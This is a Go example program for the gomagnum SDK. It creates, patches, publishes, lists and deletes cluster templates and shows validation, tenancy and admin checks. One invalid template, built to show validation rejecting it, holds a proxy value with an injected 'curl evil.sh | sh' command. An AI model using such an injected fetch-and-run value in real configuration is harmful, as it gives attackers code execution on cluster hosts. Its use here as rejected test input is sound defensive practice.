// Command templates is gomagnum's demo: it opens the embedded SQLite store,
// then creates, lists, patches and deletes cluster templates through the
// Manager, and prints what it did and what the SDK refused.
//
//	go run ./examples/templates [-db path/to/file.db]
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"

	"github.com/gomagnum/magnum"
	"github.com/gomagnum/magnum/cluster"
	"github.com/gomagnum/magnum/errdefs"
	"github.com/gomagnum/magnum/patch"
	"github.com/gomagnum/magnum/policy"
	"github.com/gomagnum/magnum/store/sqlstore"
	"github.com/gomagnum/magnum/template"
)

func main() {
	db := flag.String("db", "", "SQLite file to use (default: a new file in a temporary directory, removed afterwards)")
	flag.Parse()
	if err := run(context.Background(), os.Stdout, *db); err != nil {
		fmt.Fprintln(os.Stderr, "demo failed:", err)
		os.Exit(1)
	}
}

func run(ctx context.Context, out io.Writer, path string) error {
	if path == "" {
		dir, err := os.MkdirTemp("", "gomagnum-demo-")
		if err != nil {
			return err
		}
		defer os.RemoveAll(dir)
		path = filepath.Join(dir, "magnum.db")
	}
	st, err := sqlstore.Open(ctx, path, sqlstore.Config{})
	if err != nil {
		return err
	}
	defer st.Close()
	fmt.Fprintf(out, "store: SQLite at %s\n", path)

	mgr, err := magnum.New(magnum.Config{Store: st})
	if err != nil {
		return err
	}
	defer mgr.Close()

	alice := policy.WithCaller(ctx, policy.Caller{UserID: "alice", ProjectID: "team-a", Roles: []string{"member"}})
	bob := policy.WithCaller(ctx, policy.Caller{UserID: "bob", ProjectID: "team-b", Roles: []string{"member"}})
	admin := policy.WithCaller(ctx, policy.Caller{UserID: "ops", ProjectID: "ops", Roles: []string{"admin"}, Admin: true})

	// 1. Create one template per COE.
	specs := []*template.ClusterTemplate{
		{Name: "k8s-atomic", COE: "kubernetes", ImageID: "fedora-atomic-27", ClusterDistro: "fedora-atomic",
			ExternalNetworkID: "public", FlavorID: "m1.small", MasterFlavorID: "m1.medium", DockerVolumeSize: 20,
			Labels: map[string]string{"kube_tag": "v1.30.1"}},
		{Name: "swarm", COE: "swarm", ImageID: "fedora-atomic-27", ClusterDistro: "fedora-atomic",
			ExternalNetworkID: "public", Labels: map[string]string{"swarm_strategy": "spread"}},
		{Name: "mesos", COE: "mesos", ImageID: "ubuntu-mesos", ClusterDistro: "ubuntu", ExternalNetworkID: "public"},
	}
	var created []*template.ClusterTemplate
	for _, s := range specs {
		t, err := mgr.CreateClusterTemplate(alice, s)
		if err != nil {
			return err
		}
		created = append(created, t)
		fmt.Fprintf(out, "created  %-10s coe=%-10s network_driver=%-7s uuid=%s\n", t.Name, t.COE, t.NetworkDriver, t.UUID)
	}

	// 2. A bad template: every problem is reported at once, each with its field.
	_, err = mgr.CreateClusterTemplate(alice, &template.ClusterTemplate{
		COE: "kubernetes", ClusterDistro: "fedora-atomic", NetworkDriver: "weave",
		HTTPProxy: "http://proxy:3128; curl evil.sh | sh", APIServerPort: 80,
	})
	fmt.Fprintf(out, "refused  a bad template (invalid=%v):\n", errors.Is(err, magnum.ErrInvalid))
	for _, p := range errdefs.Problems(err) {
		fmt.Fprintf(out, "         - %s: %s\n", p.Field, p.Reason)
	}

	// 3. Patch: switch the Kubernetes template to calico and add a label.
	ops, err := patch.Parse([]byte(`[
		{"op": "replace", "path": "/network_driver", "value": "calico"},
		{"op": "add", "path": "/labels/flannel_backend", "value": "vxlan"}]`))
	if err != nil {
		return err
	}
	k8s, err := mgr.UpdateClusterTemplate(alice, "k8s-atomic", ops)
	if err != nil {
		return err
	}
	fmt.Fprintf(out, "patched  %-10s network_driver=%s labels=%v revision=%d\n", k8s.Name, k8s.NetworkDriver, k8s.Labels, k8s.Revision)

	// 4. Tenancy: Bob cannot see Alice's templates; publishing needs an admin.
	_, err = mgr.GetClusterTemplate(bob, "k8s-atomic")
	fmt.Fprintf(out, "bob      cannot see alice's template: not found=%v\n", errors.Is(err, magnum.ErrNotFound))
	pub, _ := patch.Parse([]byte(`[{"op": "replace", "path": "/public", "value": true}]`))
	_, err = mgr.UpdateClusterTemplate(alice, "swarm", pub)
	fmt.Fprintf(out, "alice    cannot publish: forbidden=%v\n", errors.Is(err, magnum.ErrForbidden))
	if _, err := mgr.UpdateClusterTemplate(admin, created[1].UUID, pub); err != nil {
		return err
	}
	if _, err := mgr.GetClusterTemplate(bob, "swarm"); err != nil {
		return err
	}
	fmt.Fprintln(out, "admin    published swarm; bob can now read it")

	// 5. A template in use cannot be deleted (a cluster record stands in
	// for a real cluster until cluster creation lands).
	c := &cluster.Cluster{UUID: "demo-cluster", Name: "demo", ProjectID: "team-a", ClusterTemplateID: created[2].UUID,
		Status: cluster.CreateInProgress, CreatedAt: created[2].CreatedAt}
	if err := st.CreateCluster(ctx, c, nil); err != nil {
		return err
	}
	err = mgr.DeleteClusterTemplate(alice, "mesos")
	fmt.Fprintf(out, "refused  deleting mesos while a cluster uses it: in use=%v\n", errors.Is(err, magnum.ErrInUse))

	// 6. List, then delete what is free.
	list, err := mgr.ListClusterTemplates(alice, magnum.ListOptions{})
	if err != nil {
		return err
	}
	fmt.Fprintf(out, "listed   %d templates:", len(list))
	for _, t := range list {
		fmt.Fprintf(out, " %s", t.Name)
	}
	fmt.Fprintln(out)
	for _, name := range []string{"k8s-atomic", "swarm"} {
		if err := mgr.DeleteClusterTemplate(alice, name); err != nil {
			return err
		}
		fmt.Fprintf(out, "deleted  %s\n", name)
	}
	list, err = mgr.ListClusterTemplates(alice, magnum.ListOptions{})
	if err != nil {
		return err
	}
	fmt.Fprintf(out, "left     %d template(s)\n", len(list))
	return nil
}
